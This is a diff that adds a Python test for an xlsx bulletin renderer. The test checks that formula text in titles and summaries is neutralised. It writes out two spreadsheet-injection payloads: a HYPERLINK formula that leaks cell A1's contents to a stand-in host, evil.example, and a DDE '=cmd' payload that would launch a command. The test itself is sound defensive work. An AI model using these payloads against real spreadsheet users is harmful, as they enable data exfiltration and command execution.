@@ -154,3 +154,15 @@ def test_without_a_cjk_font_charts_still_render_and_warn(monkeypatch, caplog):
         assert "no CJK font installed" in caplog.text
     finally:
         render.cjk_font.cache_clear()
+
+
+async def test_the_bulletin_workbook_neutralises_formula_text(scenario: Scenario):
+    import dataclasses
+
+    c = await bulletins.build_content(scenario.ctx, scenario.org.jurisdiction.id, 2024, 3)
+    payload = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'
+    c = dataclasses.replace(c, title=payload, summary=["=cmd|' /C calc'!A0", *c.summary[1:]])
+    wb = load_workbook(io.BytesIO(render.xlsx(c)))
+    summary = wb["通报概况"]
+    assert (summary["A1"].value, summary["A1"].data_type) == ("'" + payload, "s")
+    assert summary["A4"].value == "'=cmd|' /C calc'!A0" and summary["A4"].data_type == "s"
